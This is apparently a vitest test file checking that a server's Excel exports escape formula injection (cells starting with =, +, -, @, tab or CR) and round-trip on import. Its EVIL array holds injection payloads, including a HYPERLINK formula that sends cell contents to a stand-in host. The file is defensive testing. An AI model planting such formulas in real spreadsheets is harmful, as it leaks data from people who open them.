import fs from 'node:fs';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../../test/harness.ts';
import { xlsxUpload } from '../modules/demo/test-helpers.ts';
import { safeCellText } from './excel.ts';

/**
 * Issue 28 security 5: every export writes a text that a spreadsheet would run as a formula (= + - @ tab CR) as plain
 * text, through the one cell writer of platform/excel.ts — and nothing else in the server writes workbooks.
 */

const EVIL = ['=HYPERLINK("http://x.example/?"&A1,"点我")', '+1+2', '-2+3', '@SUM(1)', '\t=1', '\r=1'];

describe('the export cell writer', () => {
  it('neutralises formula starts and leaves other text and numbers alone', () => {
    for (const s of EVIL) expect(safeCellText(s)).toBe(`'${s}`);
    expect(safeCellText('张三')).toBe('张三');
    expect(safeCellText('a=1')).toBe('a=1');
    expect(safeCellText('')).toBe('');
  });

  it('is the only place the server writes a workbook', () => {
    const root = path.resolve(__dirname, '..');
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) walk(p);
        else if (/\.ts$/.test(e.name) && !/\.test\.ts$|test-helpers\.ts$/.test(e.name)) {
          const text = fs.readFileSync(p, 'utf8');
          if (/from 'exceljs'/.test(text) && !p.endsWith(path.join('platform', 'excel.ts'))) offenders.push(p);
        }
      }
    };
    walk(root);
    expect(offenders).toEqual([]);
  });
});

describe('exports through the API', () => {
  let t: TestApp;
  let admin: string;
  beforeAll(async () => {
    t = await createTestApp();
    admin = await t.login();
  });
  afterAll(async () => {
    await t?.close();
  });

  const cells = async (url: string) => {
    const res = await t.req({ method: 'GET', url: `/jeecg-boot${url}`, token: admin });
    expect(res.statusCode, url).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as never);
    const out: unknown[] = [];
    wb.worksheets[0].eachRow((row) => {
      row.eachCell((c) => {
        out.push(c.value);
        expect(c.formula ?? null, url).toBe(null);
      });
    });
    return out;
  };

  it('positions and roles: a name starting with = is exported as text with an apostrophe, and imported back as it was', async () => {
    const name = EVIL[0];
    const add = await t.req({
      method: 'POST',
      url: '/jeecg-boot/sys/position/add',
      token: admin,
      payload: { code: 'evilpos', name, postRank: '1' },
    });
    expect(add.json.success).toBe(true);
    const values = await cells('/sys/position/exportXls');
    expect(values).toContain(`'${name}`);
    expect(values).not.toContain(name);

    const role = await t.req({
      method: 'POST',
      url: '/jeecg-boot/sys/role/add',
      token: admin,
      payload: { roleCode: 'evil_role', roleName: '+1+2', description: '@SUM(1)' },
    });
    expect(role.json.success).toBe(true);
    const roleCells = await cells('/sys/role/exportXls');
    expect(roleCells).toContain("'+1+2");

    // round trip: the exported text comes back without the apostrophe
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('职务表');
    ws.addRow(['职务编码', '职务名称', '职级']);
    ws.addRow(['evilpos2', `'${name}`, '中级']);
    const body = xlsxUpload(Buffer.from(await wb.xlsx.writeBuffer()));
    const imp = await t.req({
      method: 'POST',
      url: '/jeecg-boot/sys/position/importExcel',
      token: admin,
      payload: body.payload,
      headers: body.headers,
    });
    expect(imp.json.success, imp.json.message).toBe(true);
    const list = await t.req({ method: 'GET', url: '/jeecg-boot/sys/position/list?code=evilpos2', token: admin });
    expect(list.json.result.records[0]?.name).toBe(name);
  });
});
